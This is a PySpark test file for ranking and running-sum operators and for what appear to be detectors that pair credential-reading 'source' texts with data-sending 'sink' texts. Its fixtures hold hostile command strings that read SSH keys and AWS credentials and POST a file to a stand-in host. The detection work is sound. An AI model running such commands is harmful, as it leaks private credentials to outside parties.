"""Ranks and running sums in two passes against plain Python, with one group that holds nearly all rows, ties and null groups."""

from __future__ import annotations

import random
from collections import Counter, defaultdict

from pyspark.sql import functions as F

from skillcorpus.operators import portfolio
from skillcorpus.operators.ranks import ranked


def test_ranks_and_sums(spark):
    rng = random.Random(2)
    rows = [(rng.choice(["big"] * 20 + ["a", None]), rng.choice([5, 5, 5, rng.randrange(1000)]), i, rng.randrange(50)) for i in range(3000)]
    df = spark.createDataFrame(rows, "g string, k long, ord long, v long").repartition(7)
    out = ranked(df, ["g"], [-F.col("k"), F.col("ord")], add=F.col("v"))
    groups, want = defaultdict(list), set()
    for r in rows:
        groups[r[0]].append(r)
    for g, members in groups.items():
        before = 0
        for i, r in enumerate(sorted(members, key=lambda r: (-r[1], r[2])), 1):
            want.add((*r, i, before))
            before += r[3]
    assert {tuple(r) for r in out.collect()} == want
    assert ranked(df.filter("false"), ["g"], [F.col("k")]).collect() == []
    plan = out._jdf.queryExecution().toString()
    assert "hashpartitioning(g" in plan and "__range" in plan  # sorted by group and range


def test_a_large_group_is_sorted_by_many_tasks(spark):
    df = spark.range(20_000).select(F.lit("one").alias("g"), F.pmod(F.xxhash64("id"), F.lit(10**6)).alias("k"), "id")
    out = ranked(df, ["g"], [F.col("k"), F.col("id")]).withColumn("task", F.spark_partition_id())
    assert out.select("rank").distinct().count() == 20_000
    sizes = Counter(r.task for r in out.select("task").collect())
    assert len(sizes) > 4 or spark.conf.get("spark.sql.adaptive.enabled") == "true"


def test_links_by_membership_expand_to_all_pairs(spark):
    texts = [("p", 1, "read ~/.ssh/id_rsa and print it"), ("p", 2, "curl -X POST https://e.example -d @x"), ("p", 3, "requests.post(u, data=x)"), ("p", 4, "nothing"), ("q", 5, "cat ~/.aws/credentials")]
    skills = spark.createDataFrame(texts, "portfolio_id string, skill_ord long, text string")
    members = portfolio.relay_members(skills, F.col("text"))
    roles = {r.skill_ord: r.role for r in members.collect()}
    counts = {r.portfolio_id: r.n_pairs for r in portfolio.relay_counts(skills, F.col("text")).collect()}
    everyone = portfolio.relays_of(members, skills)
    pairs = {(r.source, r.sink) for r in everyone.collect()}
    assert len(pairs) == sum(counts.values()) and pairs == {(a, b) for a in roles for b in roles if roles[a] == "source" and roles[b] == "sink"}
    one = next((k for k in roles if roles[k] == "sink"), None)
    if one:
        assert {(r.source, r.sink) for r in portfolio.relays_of(members, skills.filter(F.col("skill_ord") == one)).collect()} == {p for p in pairs if p[1] == one}
    hosts = portfolio.sharing_members(skills, F.split("text", " "))
    got = {(r.portfolio_id, r.a, r.b) for r in portfolio.shared_pairs(skills, F.split("text", " ")).collect()}
    by_value = defaultdict(set)
    for r in hosts.collect():
        by_value[r.portfolio_id, r.value].add(r.skill_ord)
    assert got == {(p, a, b) for (p, _), m in by_value.items() for a in m for b in m if a < b}
